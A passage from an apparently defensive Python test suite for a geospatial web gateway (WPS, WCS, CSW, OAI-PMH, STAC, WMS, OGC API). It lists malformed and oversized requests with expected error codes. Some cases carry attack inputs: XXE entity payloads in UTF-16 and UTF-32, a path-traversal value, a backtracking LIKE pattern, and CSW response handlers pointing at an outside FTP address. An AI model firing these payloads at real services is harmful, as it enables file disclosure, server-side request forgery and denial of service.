            "/ogcapi/processes/echo/execution",
            "problem",
            oversized,
            JSON,
            status=(413,),
        ),
        Case(
            "ogcapi-chunked-malformed",
            "body",
            "POST",
            "/ogcapi/processes/echo/execution",
            "problem",
            b'{"inputs": {"integerInput": 2}}',
            JSON,
            chunked=True,
        ),
        Case(
            "wps-chunked",
            "body",
            "POST",
            "/wps",
            "ows",
            wps_xml(wps_input("integerInput", "2")),
            XML,
            chunked=True,
        ),
        Case(
            "wps-chunked-oversized",
            "body",
            "POST",
            "/wps",
            "ows",
            oversized,
            XML,
            chunked=True,
            status=(413,),
        ),
        Case(
            "wcs-chunked",
            "body",
            "POST",
            "/wcs",
            "ows",
            wcs_xml("no-such-coverage"),
            XML,
            chunked=True,
        ),
        Case(
            "wcs-chunked-oversized",
            "body",
            "POST",
            "/wcs",
            "ows",
            oversized,
            XML,
            chunked=True,
            status=(413,),
        ),
        Case(
            "csw-chunked-oversized",
            "body",
            "POST",
            "/csw",
            "ows",
            oversized,
            XML,
            chunked=True,
            status=(401, 413),  # 401: the access control asks for a credential first
        ),
        Case("csw-oversized", "body", "POST", "/csw", "ows", oversized, XML, status=(401, 413)),
    ]


def protocol_cases() -> list[Case]:
    wps2 = (
        b'<wps:Execute xmlns:wps="http://www.opengis.net/wps/2.0" '
        b'xmlns:ows="http://www.opengis.net/ows/2.0" service="WPS" version="2.0.0" '
        b'response="document" mode="sync"><ows:Identifier>echo</ows:Identifier>'
        b'<wps:Input id="stringInput"><wps:Data>x</wps:Data></wps:Input></wps:Execute>'
    )
    return [
        Case("wps-2.0-execute", "protocol", "POST", "/wps", "ows", wps2, XML),
        Case(
            "wps-version-9",
            "protocol",
            "GET",
            "/wps?service=WPS&version=9.9.9&request=DescribeProcess&identifier=echo",
            "ows",
        ),
        Case(
            "wms-version-9",
            "protocol",
            "GET",
            "/maps/service?service=WMS&version=9.9.9&request=GetMap",
            "wms",
            status=(400,),
        ),
        Case(
            "maps-wmts-kvp-on-rest-base",
            "protocol",
            "GET",
            "/maps/wmts?service=WMTS&request=GetTile&layer={product}&style=default"
            "&format=image/png&tilematrixset=GoogleMapsCompatible&tilematrix=3&tilerow=1"
            "&tilecol=1",
            "ows",
        ),
        Case(
            "oai-getrecord-unknown",
            "protocol",
            "GET",
            f"{OAI}&verb=GetRecord&metadataPrefix=oai_dc&identifier=no-such-record",
            "oai:idDoesNotExist",
        ),
        Case(
            "oai-set-unknown",
            "protocol",
            "GET",
            f"{OAI}&verb=ListRecords&metadataPrefix=oai_dc&set=no-such-set",
            "oai:badArgument",
        ),
        Case(
            "oai-set-empty",
            "protocol",
            "GET",
            f"{OAI}&verb=ListRecords&metadataPrefix=oai_dc&set=interactiveResources",
            "oai:noRecordsMatch",
        ),
        Case(
            "oai-until-malformed",
            "protocol",
            "GET",
            f"{OAI}&verb=ListRecords&metadataPrefix=oai_dc&until=notadate",
            "oai:badArgument",
        ),
        Case(
            "oai-from-invalid-date",
            "protocol",
            "GET",
            f"{OAI}&verb=ListIdentifiers&metadataPrefix=oai_dc&from=2024-13-45",
            "oai:badArgument",
        ),
        Case(
            "oai-from-after-until",
            "protocol",
            "GET",
            f"{OAI}&verb=ListRecords&metadataPrefix=oai_dc&from=2025-01-01&until=2024-01-01",
            "oai:badArgument",
        ),
        Case(
            "oai-granularity-mix",
            "protocol",
            "GET",
            f"{OAI}&verb=ListRecords&metadataPrefix=oai_dc&from=2024-01-01"
            "&until=2025-01-01T00:00:00Z",
            "oai:badArgument",
        ),
        Case(
            "csw-version-9",
            "protocol",
            "GET",
            "/csw?service=CSW&version=9.9.9&request=GetCapabilities&acceptversions=9.9.9",
            "ows",
        ),
        Case(
            "wcs-unknown-request",
            "protocol",
            "GET",
            "/wcs?service=WCS&version=2.0.1&request=DeleteEverything",
            "ows",
        ),
        Case("ogcapi-method", "protocol", "DELETE", "/ogcapi/processes/echo", "problem"),
        Case("stac-method", "protocol", "DELETE", "/stac/collections", "problem"),
    ]


def malformed_cases() -> list[Case]:
    """Requests a client gets wrong that a library turned into a 500, a hang or a leak."""
    backtracking_like = {"op": "like", "args": [{"property": "id"}, "%s" * 30 + "%zq"]}
    ogcapi_map = "/maps/ogcapi/collections/{product}/map"
    wps_literal_entity = (
        '<wps:Execute xmlns:wps="http://www.opengis.net/wps/1.0.0" '
        'xmlns:ows="http://www.opengis.net/ows/1.1" service="WPS" version="1.0.0">'
        "<ows:Identifier>echo</ows:Identifier><wps:DataInputs><wps:Input>"
        "<ows:Identifier>stringInput</ows:Identifier><wps:Data><wps:LiteralData>&xxe;"
        "</wps:LiteralData></wps:Data></wps:Input></wps:DataInputs></wps:Execute>"
    )
    csw_id_entity = (
        '<csw:GetRecordById xmlns:csw="http://www.opengis.net/cat/csw/2.0.2" service="CSW" '
        'version="2.0.2"><csw:Id>&xxe;</csw:Id></csw:GetRecordById>'
    )
    return [
        Case(
            "stac-like-backtracking",
            "malformed",
            "POST",
            "/stac/search",
            "empty:stac",
            json.dumps({"filter": backtracking_like}).encode(),
            JSON,
        ),
        Case(
            "stac-like-number",
            "malformed",
            "POST",
            "/stac/search",
            "problem",
            b'{"filter": {"op": "like", "args": [{"property": "id"}, 5]}}',
            JSON,
        ),
        Case(
            "wms-bbox-overflowing",
            "malformed",
            "GET",
            f"{WMS_OK}&bbox=-1e308,-1e308,1e308,1e308&width=64&height=64",
            "wms",
            status=(400,),
        ),
        Case(
            "wms-width-empty",
            "malformed",
            "GET",
            f"{WMS_OK}&bbox=59,15,60,16&width=&height=64",
            "wms",
            status=(400,),
        ),
        Case(
            "wms-bgcolor-word",
            "malformed",
            "GET",
            f"{WMS_OK}&bbox=59,15,60,16&width=64&height=64&bgcolor=zzz",
            "wms",
            status=(400,),
        ),
        Case(
            "maps-ogcapi-crs-unknown",
            "malformed",
            "GET",
            f"{ogcapi_map}?crs=EPSG:99999",
            "problem",
            status=(400,),
        ),
        Case(
            "maps-ogcapi-bbox-nan",
            "malformed",
            "GET",
            f"{ogcapi_map}?bbox=nan,nan,nan,nan",
            "problem",
            status=(400,),
        ),
        Case(
            "maps-ogcapi-dataset-map",
            "malformed",
            "GET",
            "/maps/ogcapi/map?bbox=1,2,3,4",
            "problem",
            status=(404,),
        ),
        Case(
            "csw-updatesequence-word",
            "malformed",
            "GET",
            "/csw?service=CSW&request=GetCapabilities&updatesequence=zzz",
            "ows",
            status=(400,),
        ),
        Case(
            "csw-post-updatesequence-word",
            "malformed",
            "POST",
            "/csw",
            "ows",
            b'<csw:GetCapabilities xmlns:csw="http://www.opengis.net/cat/csw/2.0.2" '
            b'service="CSW" updateSequence="zzz"/>',
            XML,
            status=(400,),
        ),
        Case(
            "csw-post-html-root",
            "malformed",
            "POST",
            "/csw",
            "ows",
            b"<html><body>x</body></html>",
            XML,
        ),
        Case(
            "records-offset-huge",
            "malformed",
            "GET",
            "/records/collections/products/items?offset=99999999999999999999",
            "problem",
            status=(400,),
        ),
        Case(
            "records-bbox-nan",
            "malformed",
            "GET",
            "/records/collections/products/items?bbox=nan,nan,nan,nan",
            "problem",
            status=(400,),
        ),
        Case(
            "wcs-rangesubset-reversed",
            "malformed",
            "GET",
            f"{WCS}&coverageId={{product}}&rangesubset=B04:B02",
            "ows",
            status=(400,),
        ),
        Case(
            "coverages-bbox-overflowing",
            "malformed",
            "GET",
            f"{COVERAGE}&bbox=-1e308,-1e308,1e308,1e308",
            "problem",
            status=(400,),
        ),
        Case(
            "data-range-unsatisfiable",
            "malformed",
            "GET",
            "/data/{product}.tif",
            "ows",
            headers=(("Range", "bytes=999999999-"),),
            status=(416,),
        ),
        Case(
            "data-range-malformed",
            "malformed",
            "GET",
            "/data/{product}.tif",
            "ows",
            headers=(("Range", "bytes=abc"),),
            status=(416,),
        ),
        Case(
            "data-range-multi",
            "malformed",
            "GET",
            "/data/{product}.tif",
            "image",
            headers=(("Range", "bytes=0-0,5-10"),),
            status=(200,),
        ),
        Case(
            "wms-undeclared-dimension",
            "malformed",
            "GET",
            f"{WMS_OK}&bbox=59,15,60,16&width=64&height=64&dim_q=a%2F..%2F..%2Fb&elevation=1",
            "image",
        ),
        Case(
            "gateway-uri-too-long",
            "malformed",
            "GET",
            "/stac/search?ids=" + "a" * 9000,
            "ows",
            status=(414,),
        ),
        Case("gateway-method-lowercase", "malformed", "get", "/health", "ows", status=(400,)),
        Case(
            "stac-long-kvp-search",  # 6 kB of ids: above gunicorn's default request line
            "malformed",
            "GET",
            "/stac/search?ids=" + ",".join(f"no-such-item-{i}" for i in range(400)),
            "empty:stac",
        ),
        Case(
            "oai-prefix-unknown",
            "malformed",
            "GET",
            f"{OAI}&verb=ListRecords&metadataPrefix=evil",
            "oai:cannotDisseminateFormat",
        ),
        Case(
            "oai-verb-repeated",
            "malformed",
            "GET",
            f"{OAI}&verb=Identify&verb=ListSets",
            "oai:badVerb",
        ),
        Case(
            "maps-ogcapi-size-without-bbox",
            "malformed",
            "GET",
            f"{ogcapi_map}?width=64&height=64",
            "image",
        ),
        Case(
            "maps-ogcapi-tiny-map-of-wide-box",
            "malformed",
            "GET",
            f"{ogcapi_map}?bbox=10,55,25,65&width=2&height=2",
            "image",
        ),
        Case(
            "csw-getrecords-responsehandler-ftp",
            "malformed",
            "GET",
            f"{CSW2}&elementsetname=brief&responsehandler=ftp://10.255.255.1/x.xml",
            "ows",
            status=(400,),
        ),
        Case(
            "csw-getrecords-responsehandler-mailto",
            "malformed",
            "POST",
            "/csw",
            "ows",
            b'<csw:GetRecords xmlns:csw="http://www.opengis.net/cat/csw/2.0.2" service="CSW" '
            b'version="2.0.2" resultType="results"><csw:ResponseHandler>mailto:x@example.org'
            b'</csw:ResponseHandler><csw:Query typeNames="csw:Record"><csw:ElementSetName>'
            b"brief</csw:ElementSetName></csw:Query></csw:GetRecords>",
            XML,
            status=(400,),
        ),
        Case(
            "wps-xxe-utf16",
            "xml",
            "POST",
            "/wps",
            "ows",
            (XXE_FILE.replace("1.0", '1.0" encoding="UTF-16', 1) + wps_literal_entity).encode(
                "utf-16"
            ),
            XML,
            status=(400,),
        ),
        Case(
            "csw-xxe-utf32",
            "xml",
            "POST",
            "/csw",
            "ows",
            (XXE_FILE.replace("1.0", '1.0" encoding="UTF-32', 1) + csw_id_entity).encode("utf-32"),
            XML,
            status=(400,),
        ),
        Case(
            "csw-kvp-filter-xxe",
            "xml",
            "GET",
            f"{CSW2}&elementsetname=brief&constraintlanguage=FILTER"
            "&constraint_language_version=1.1.0&constraint="
            + q(
                XXE_FILE + '<ogc:Filter xmlns:ogc="http://www.opengis.net/ogc"><ogc:PropertyIsLike'
                ' wildCard="%" singleChar="_" escapeChar="\\"><ogc:PropertyName>dc:title'
                "</ogc:PropertyName><ogc:Literal>&xxe;</ogc:Literal></ogc:PropertyIsLike>"
                "</ogc:Filter>"
            ),
            "ows",
            status=(400,),
        ),
        Case(
            "csw-gmlobjectid-filter",
            "malformed",
            "POST",
            "/csw",
            "ows",
            CSW_GETRECORDS.format(
                filter='<ogc:GmlObjectId xmlns:gml="http://www.opengis.net/gml" gml:id="x"/>'
            ).encode(),
            XML,
            status=(400,),
        ),
        Case(
            "wps-input-without-value",
            "malformed",
            "GET",
            WPS_EXECUTE + "stringInput",
            "ows",
            status=(400,),
        ),
        Case(
            "wps-bbox-text",
            "malformed",
            "GET",
            WPS_EXECUTE + q("stringInput=x;boundingBoxInput=a,b,c,d"),
            "ows",
            status=(400,),
        ),
        Case(
            "wps-undeclared-uom",
            "malformed",
            "GET",
            WPS_EXECUTE + q("stringInput=x@uom=metre"),
            "ows",
            status=(400,),
        ),
        Case(
            "wps-boolean-word",
            "malformed",
            "GET",
            WPS_EXECUTE + q("stringInput=x;booleanInput=maybe"),
            "ows",
            status=(400,),
        ),
        Case(
            "wps-execute-other-namespace",
            "malformed",
            "POST",
            "/wps",
            "ows",
            b'<wps:Execute xmlns:wps="http://example.com/x" service="WPS" version="1.0.0"/>',
            XML,
            status=(400,),
        ),
    ]


CASES: list[Case] = [
    *xml_cases(),
    *sql_cases(),
    *eval_cases(),
    *ssrf_cases(),
    *traversal_cases(),
    *script_cases(),
    *number_cases(),
    *json_cases(),
    *body_cases(),
    *protocol_cases(),
    *malformed_cases(),
]
